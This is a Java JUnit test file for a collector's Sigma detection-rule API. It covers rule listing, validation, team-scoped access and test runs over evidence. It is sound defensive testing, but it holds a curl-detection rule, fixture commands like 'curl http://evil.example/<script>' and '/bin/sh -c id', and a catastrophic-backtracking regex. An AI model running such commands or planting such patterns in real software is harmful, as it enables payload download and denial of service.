package whorl.collector.sigma;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.lang.reflect.Proxy;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.InstantSource;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CountDownLatch;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import whorl.collector.export.ExportLog;
import whorl.collector.fleet.channel.FleetRig;
import whorl.collector.http.request.Access;
import whorl.collector.http.request.FakeRequest;
import whorl.collector.http.request.Grant;
import whorl.collector.http.request.Principal;
import whorl.collector.http.request.ProblemException;
import whorl.collector.http.request.Role;
import whorl.collector.http.request.Route;
import whorl.collector.http.server.Metrics;
import whorl.collector.store.access.Origin;
import whorl.collector.store.access.OriginLedger;
import whorl.collector.store.access.Part;
import whorl.collector.store.objects.EvidenceRecord;
import whorl.collector.store.records.AlertLedger;
import whorl.collector.store.records.AlertRecord;
import whorl.collector.store.rules.RuleTestLedger;
import whorl.collector.store.triage.AlertMute;
import whorl.collector.store.triage.AlertMutes;
import whorl.collector.testkit.Answer;
import whorl.collector.testkit.EachEngine;
import whorl.collector.testkit.FakeAgent;
import whorl.collector.testkit.FakeClient;
import whorl.collector.testkit.FakeTimeline;
import whorl.collector.testkit.TestCollector;
import whorl.collector.timeline.Column;
import whorl.collector.timeline.Timeline;
import whorl.evidence.AgentIdentity;
import whorl.evidence.Alert;
import whorl.evidence.Digest;
import whorl.evidence.Id;
import whorl.evidence.Json;
import whorl.evidence.Level;
import whorl.rules.parse.RulePack;

class SigmaRoutesTest extends EachEngine {
  private static final String ALL = "/api/v1/sigma-rules";
  private static final String PROCESS = "aa0baaec-3caa-403d-a87b-e72aec727371";
  private static final String CURL =
      """
      title: Curl Started
      id: 11111111-2222-3333-4444-555555555555
      level: critical
      tags:
        - attack.execution
        - attack.t1105
      logsource: {product: jvm, category: process_creation}
      detection:
        selection:
          command|contains: curl
        condition: selection
      falsepositives:
        - Health checks
      """;

  private FleetRig rig;
  private TestCollector collector;
  private final TestCollector.World world = new TestCollector.World();
  private AlertLedger alerts;
  private final FakeTimeline timeline = new FakeTimeline();
  private final List<AutoCloseable> closing = new ArrayList<>();
  private List<Route> routes;
  private FakeClient client;

  @BeforeEach
  void open() throws IOException {
    rig = new FleetRig(folder, time, one);
    collector = TestCollector.open(folder.resolve("collector"), world);
    alerts = new AlertLedger(one);
    routes =
        SigmaService.open(
            new SigmaService.Parts(
                one,
                rig.rules,
                rig.fleet,
                new AlertMutes(one),
                collector.store,
                collector.catalog,
                timeline,
                (scope, evidence) -> scope.isEverything(),
                new ExportLog(collector.custody, time),
                time,
                "9.9"),
            new Metrics(),
            closing);
    client = new FakeClient(routes, Role.RESPONDER);
  }

  @AfterEach
  void close() throws Exception {
    for (AutoCloseable each : closing) {
      each.close();
    }
    collector.close();
    rig.close();
  }

  private Answer post(String path, Object body) {
    return client.call(
        "POST",
        path,
        Map.of("Content-Type", "application/json"),
        Json.text(body).getBytes(StandardCharsets.UTF_8));
  }

  private void push(String name, String service, String yaml) throws IOException {
    FakeRequest.put(
            "/api/v1/rules/{name}",
            Json.text(Map.of("target", Map.of("service", service), "rules", yaml)))
        .at("name", name)
        .json(rig.ruleRoutes);
  }

  private void raise(String rule, String service, Duration ago, Origin origin) throws IOException {
    Instant at = time.instant().minus(ago);
    Id id = Id.next(() -> at);
    Alert alert =
        new Alert(
            id,
            "whorl",
            at,
            rule,
            Level.HIGH,
            "of " + rule,
            null,
            List.of(),
            Map.of(),
            null,
            List.of());
    alerts.insert(
        new AlertRecord(alert, null, service, null, null, at, List.of(), null, 0, null), List.of());
    one.update(
        "UPDATE alerts SET origin = ? WHERE id = ?",
        new OriginLedger(one).idOf(origin),
        id.value());
  }

  private static Principal team(String service) {
    return new Principal(
        Role.RESPONDER,
        "responder-of-" + service,
        null,
        new Access(
            List.of(new Grant(Role.RESPONDER, new Part(Set.of(), Set.of(service), Map.of())))));
  }

  @Test
  void builtInRules_haveTheirText_andTheNamesOfTheirTechniques() {
    JsonNode list = client.get(ALL + "?limit=1000&source=built-in").json();

    assertThat(list.get("rules")).hasSizeGreaterThan(100);
    for (JsonNode rule : list.get("rules")) {
      JsonNode whole = client.get(ALL + "/" + rule.get("id").asText()).json();
      assertThat(whole.get("text").asText()).contains("title: ").contains(rule.get("id").asText());
      assertThat(whole.at("/details/description").asText()).isNotEmpty();
      assertThat(whole.get("problems")).isEmpty();
      for (JsonNode technique : whole.get("techniques")) {
        assertThat(technique.path("name").asText()).as(technique.toString()).isNotEmpty();
      }
    }
    JsonNode process = client.get(ALL + "/" + PROCESS).json();
    assertThat(process.get("title").asText()).isEqualTo("Process Started by the Application");
    assertThat(process.get("version").asText()).isEqualTo("9.9");
    assertThat(process.at("/details/falsePositives")).isNotEmpty();
    assertThat(process.at("/details/events").toString()).contains("whorl.ProcessStart");
  }

  @Test
  void filters_narrow() {
    assertThat(titles("q=process APPLICATION&level=high"))
        .contains("Process Started by the Application");
    assertThat(titles("tag=t1059")).contains("Shell or Download Tool Started by the Application");
    assertThat(titles("tag=credential-access")).contains("Password Hashes Read");
    assertThat(titles("tag=t1059&q=nothing-has-this-word")).isEmpty();
    assertThat(client.get(ALL + "?source=elsewhere").status()).isEqualTo(400);
    assertThat(client.get(ALL + "/no-such-rule").status()).isEqualTo(404);
  }

  private List<String> titles(String query) {
    return client.get(ALL + "?limit=1000&" + query).json().get("rules").findValuesAsText("title");
  }

  @Test
  void pushedRules_areListedWithWhatAgentsMakeOfThem() throws IOException {
    push("mine", "shop", CURL + "---\ntitle: Broken\nlogsource: {product: jvm}\n");

    JsonNode rules = client.get(ALL + "?source=pushed").json().get("rules");
    assertThat(rules.findValuesAsText("title")).containsExactlyInAnyOrder("Curl Started", "Broken");
    JsonNode curl = client.get(ALL + "/11111111-2222-3333-4444-555555555555?set=mine").json();
    assertThat(curl.get("set").asText()).isEqualTo("mine");
    assertThat(curl.get("version").asText()).isEqualTo("1");
    assertThat(curl.at("/techniques/0/name").asText()).isEqualTo("Ingress Tool Transfer");
    assertThat(curl.at("/details/pushed/by").asText()).isEqualTo("responder-1a2b3c4d");
    assertThat(curl.at("/details/pushed/target/service").asText()).isEqualTo("shop");
    JsonNode broken =
        rules.get(0).get("title").asText().equals("Broken") ? rules.get(0) : rules.get(1);
    assertThat(broken.at("/problems/0").asText()).contains("category");
    // a team whose agents cannot get the set does not learn of it
    assertThat(client.as(team("cart")).get(ALL + "?source=pushed").json().get("rules")).isEmpty();
  }

  @Test
  void hits_areCountedByTimeAndService_asFarAsTheyAreSeen() throws IOException {
    Origin shop = new Origin("prod", "shop", Map.of());
    Origin cart = new Origin("prod", "cart", Map.of());
    raise(PROCESS, "shop", Duration.ofHours(1), shop);
    raise(PROCESS, "shop", Duration.ofDays(3), shop);
    raise(PROCESS, "cart", Duration.ofDays(20), cart);
    raise("local-rule", "cart", Duration.ofHours(2), cart);
    new AlertMutes(one)
        .add(
            new AlertMute(
                Id.next(time),
                PROCESS,
                "shop",
                null,
                "known",
                "me",
                time.instant(),
                time.instant().plusSeconds(60),
                null,
                null),
            () -> {});

    JsonNode first = client.get(ALL).json().at("/rules/0");
    assertThat(first.get("id").asText()).isEqualTo(PROCESS);
    assertThat(first.get("hits").toString())
        .contains("\"day\":1,\"week\":2,\"all\":3")
        .contains("\"last\":\"2026-11-24T09:00:00");
    assertThat(first.get("muted").asInt()).isEqualTo(1);
    JsonNode whole = client.get(ALL + "/" + PROCESS).json();
    assertThat(whole.at("/details/services").findValuesAsText("service"))
        .containsExactly("shop", "cart");
    long inWeek = 0;
    for (JsonNode count : whole.at("/details/overTime/counts")) {
      inWeek += count.asLong();
    }
    assertThat(inWeek).isEqualTo(2);
    assertThat(whole.at("/details/mutes/0/reason").asText()).isEqualTo("known");
    JsonNode local = client.get(ALL + "?source=agents").json().at("/rules/0");
    assertThat(local.get("title").asText()).isEqualTo("of local-rule");

    FakeClient ofCart = client.as(team("cart"));
    JsonNode seen = ofCart.get(ALL + "/" + PROCESS).json();
    assertThat(seen.at("/hits/all").asInt()).isEqualTo(1);
    assertThat(seen.get("muted").asInt()).isZero();
    assertThat(seen.toString()).doesNotContain("shop\"");
    assertThat(client.as(team("shop")).get(ALL + "/local-rule").status()).isEqualTo(404);
  }

  @Test
  void agents_areCountedByWhatTheySayOfTheirRules() throws IOException {
    AgentIdentity shop = FleetRig.agent(1, "shop", "prod");
    rig.connectWith(shop, Map.of("builtInRules", RulePack.digest().hex()));
    rig.connectWith(
        FleetRig.agent(2, "shop", "prod"),
        Map.of(
            "builtInRules",
            RulePack.digest().hex(),
            "rulesDisabled",
            List.of(PROCESS),
            "ruleWarnings",
            List.of("rule 'Password Hashes Read': matches only sometimes", 7)));
    rig.connectWith(FleetRig.agent(3, "shop", "prod"), Map.of("builtInRules", "another"));
    rig.connectWith(FleetRig.agent(4, "cart", "prod"), Map.of());

    JsonNode process = client.get(ALL + "/" + PROCESS).json().get("agents");
    assertThat(process.toString())
        .isEqualTo("{\"active\":1,\"refused\":1,\"unsupported\":1,\"differ\":1}");
    JsonNode hashes = client.get(ALL + "/6583c848-5887-46cb-b7c4-0293b6d5b45d").json();
    assertThat(hashes.at("/details/reports/0/line").asText()).contains("only sometimes");
    assertThat(client.as(team("cart")).get(ALL + "/" + PROCESS).json().get("agents").toString())
        .isEqualTo("{\"active\":0,\"refused\":0,\"unsupported\":1,\"differ\":0}");
  }

  @Test
  void check_saysWhereWhatIsWrong() {
    JsonNode good = post(ALL + "/check", Map.of("rules", CURL)).json();
    assertThat(good.at("/rules/0/title").asText()).isEqualTo("Curl Started");
    assertThat(good.get("problems")).isEmpty();

    JsonNode noYaml = post(ALL + "/check", Map.of("rules", "title: x\n  bad: [\n")).json();
    assertThat(noYaml.at("/problems/0/line").asInt()).isPositive();
    assertThat(noYaml.at("/problems/0/column").asInt()).isPositive();

    String second = CURL.replace("555555555555", "666666666666").replace("command|", "comand|");
    JsonNode wrong =
        post(ALL + "/check", Map.of("rules", CURL + "---\n" + second.replace("Curl", "Wget")))
            .json();
    assertThat(wrong.get("rules")).hasSize(1);
    long line = CURL.lines().count() + 1 + 10;
    assertThat(wrong.at("/problems/0/message").asText()).contains("comand");
    assertThat(wrong.at("/problems/0/line").asLong()).isEqualTo(line);
    assertThat(wrong.at("/problems/0/column").asInt()).isEqualTo(5);

    JsonNode copy =
        post(
                ALL + "/check",
                Map.of("rules", CURL.replace("11111111-2222-3333-4444-555555555555", PROCESS)))
            .json();
    assertThat(copy.get("rules")).isEmpty();
    assertThat(copy.at("/problems/0/message").asText())
        .contains("its id " + PROCESS + " is that of 'Process Started by the Application' already");
    assertThat(post(ALL + "/check", Map.of("rules", " ")).status()).isEqualTo(400);
    assertThat(post(ALL + "/check", Map.of("rules", "just a text")).json().get("problems"))
        .isNotEmpty();
  }

  private Id ship() throws IOException {
    FakeAgent agent = new FakeAgent().with("recording.jfr", "0123456789").seal();
    world.keys.put(agent.id, agent.key.publicKey());
    assertThat(agent.shipAll(collector.agentClient).status()).isEqualTo(204);
    return agent.evidence;
  }

  private void start(Id evidence, int second, String command) {
    timeline.add(
        evidence,
        time.instant().plusSeconds(second),
        "whorl.ProcessStart",
        Map.of(
            Column.THREAD_NAME,
            "http-1",
            Column.COMMAND_LINE,
            command,
            Column.FIELDS,
            Json.text(Map.of("command", command))));
  }

  private JsonNode tested(Map<String, ?> body) {
    Answer begun = post(ALL + "/tests", body);
    assertThat(begun.status()).as(begun.text()).isEqualTo(202);
    String test = ALL + "/tests/" + begun.json().get("id").asText();
    await()
        .atMost(Duration.ofSeconds(60))
        .until(() -> !client.get(test).json().get("state").asText().equals("running"));
    return client.get(test).json();
  }

  @Test
  void test_findsTheRowsOfTheEvidence() throws IOException {
    Id evidence = ship();
    start(evidence, 1, "ls");
    start(evidence, 2, "curl http://evil.example/<script>");

    JsonNode result = tested(Map.of("rule", CURL, "evidence", List.of(evidence.value())));

    assertThat(result.get("state").asText()).isEqualTo("done");
    assertThat(result.get("events").asInt()).isEqualTo(2);
    assertThat(result.get("matches").asInt()).isEqualTo(1);
    assertThat(result.at("/rows/0/row").asText()).isEqualTo(evidence + ":1");
    assertThat(result.at("/rows/0/what").asText()).contains("<script>");
    assertThat(result.at("/rows/0/thread").asText()).isEqualTo("http-1");
    // reading is in custody
    assertThat(collector.custody.entries(evidence))
        .anySatisfy(entry -> assertThat(entry.action()).isEqualTo("read"));
    // nobody else reads the result, and nobody tests what is not theirs
    String test = ALL + "/tests/" + result.get("id").asText();
    assertThat(client.as(new Principal(Role.ADMIN, "admin-else")).get(test).status())
        .isEqualTo(404);
    assertThat(
            client
                .as(team("cart"))
                .call(
                    "POST",
                    ALL + "/tests",
                    Map.of("Content-Type", "application/json"),
                    Json.bytes(Map.of("rule", CURL, "evidence", List.of(evidence.value()))))
                .status())
        .isEqualTo(404);
  }

  @Test
  void testOfPurgedEvidence_isGone() throws IOException {
    Id evidence = ship();
    start(evidence, 2, "curl http://evil.example/");
    JsonNode result = tested(Map.of("rule", CURL, "evidence", List.of(evidence.value())));

    new RuleTestLedger(one).purged(evidence);

    assertThat(client.get(ALL + "/tests/" + result.get("id").asText()).status()).isEqualTo(404);
  }

  @Test
  void testsOfAPerson_areFew_andWhatIsRefusedIsNotKept() throws Exception {
    CountDownLatch go = new CountDownLatch(1);
    Timeline slow =
        (Timeline)
            Proxy.newProxyInstance(
                Timeline.class.getClassLoader(),
                new Class<?>[] {Timeline.class},
                (proxy, method, arguments) -> {
                  go.await();
                  throw new IOException("closed");
                });
    RuleTestLedger ledger = new RuleTestLedger(one);
    Id evidence = ship();
    int refused = 0;
    try (RuleTests tests = new RuleTests(ledger, slow, time)) {
      for (int i = 0; i < 20; i++) {
        try {
          RuleTestView unused = tests.start(order(evidence), "mallory");
        } catch (ProblemException e) {
          assertThat(e.status()).isEqualTo(429);
          refused++;
        }
      }
      RuleTestView ofOther = tests.start(order(evidence), "alice");
      go.countDown();

      assertThat(refused).isEqualTo(18);
      await().until(() -> !tests.find(ofOther.id(), "alice").state().equals("running"));
      RuleTestView again = tests.start(order(evidence), "mallory");
      assertThat(tests.find(again.id(), "mallory")).isNotNull();
      assertThat(one.query("SELECT count(*) FROM rule_tests", row -> row.getInt(1)))
          .containsExactly(4);
    }
  }

  private RuleTestRun.Order order(Id evidence) {
    return new RuleTestRun.Order(
        Id.next(time),
        TestedRule.of(CURL),
        "somebody",
        time.instant(),
        List.of(evidence),
        0,
        10,
        time.instant().plus(RuleTests.TIME_LIMIT));
  }

  /** A rule with thousands of expressions may take seconds for each event. */
  @Test
  void testWhoseEventsTakeMuch_isStoppedInTime() throws IOException {
    Id evidence = ship();
    for (int i = 0; i < 20; i++) {
      start(evidence, i, "curl " + i);
    }
    RuleTestRun.Order order = order(evidence);
    InstantSource slow =
        () -> {
          time.pass(Duration.ofSeconds(10));
          return time.instant();
        };

    RuleTestView result = new RuleTestRun(order, timeline, slow, view -> {}).run();

    assertThat(result.problem()).contains("took too long");
    assertThat(result.events()).isLessThan(10);
  }

  @Test
  void builtInRule_isTestedByItsId_onEvidenceOfTheLastDay() throws IOException {
    Id evidence = ship();
    start(evidence, 1, "/bin/sh -c id");
    time.pass(Duration.between(time.instant(), Instant.now()));

    JsonNode result = tested(Map.of("id", PROCESS, "since", "24h"));

    assertThat(result.get("evidence").asInt()).isEqualTo(1);
    assertThat(result.at("/rows/0/rule").asText()).isEqualTo(PROCESS);
    assertThat(result.get("matches").asInt()).isEqualTo(1);
  }

  /** It is first in the list, and was sealed long ago elsewhere. */
  @Test
  void importedEvidence_keepsNoOtherOfTheLastDayFromATest() throws IOException {
    Instant now = world.now.get();
    world.now.set(now.minus(Duration.ofDays(30)));
    EvidenceRecord imported = collector.store.record(ship());
    world.now.set(now);
    Id evidence = ship();
    start(evidence, 1, "/bin/sh -c id");
    time.pass(Duration.between(time.instant(), now.plusSeconds(2)));
    Digest record = Digest.of(collector.store.recordBytes(imported.id()));
    collector.catalog.putImported(imported, record, now.plusSeconds(1), null);

    JsonNode result = tested(Map.of("id", PROCESS, "since", "24h"));

    assertThat(result.get("evidence").asInt()).isEqualTo(2);
    assertThat(result.get("matches").asInt()).isEqualTo(1);
  }

  @Test
  void catastrophicExpression_isGivenUp_andCounted() throws IOException {
    Id evidence = ship();
    start(evidence, 1, "a".repeat(4_000) + "!");
    String evil = CURL.replace("command|contains: curl", "command|re: '^(a+)+$'");

    JsonNode result = tested(Map.of("rule", evil, "evidence", List.of(evidence.value())));

    assertThat(result.get("state").asText()).isEqualTo("done");
    assertThat(result.get("matches").asInt()).isZero();
    assertThat(result.get("regexGivenUp").asInt()).isPositive();
  }

  @Test
  void whatCannotBeTested_isRefused() throws IOException {
    Id evidence = ship();
    List<String> one = List.of(evidence.value());
    assertThat(post(ALL + "/tests", Map.of("rule", "title: x", "evidence", one)).status())
        .isEqualTo(400);
    assertThat(post(ALL + "/tests", Map.of("rule", CURL)).status()).isEqualTo(400);
    assertThat(post(ALL + "/tests", Map.of("rule", CURL, "since", "8d")).status()).isEqualTo(400);
    assertThat(post(ALL + "/tests", Map.of("id", "nope", "since", "1h")).status()).isEqualTo(404);
    assertThat(
            post(ALL + "/tests", Map.of("rule", CURL, "evidence", List.of("not-an-id"))).status())
        .isEqualTo(404);
  }
}
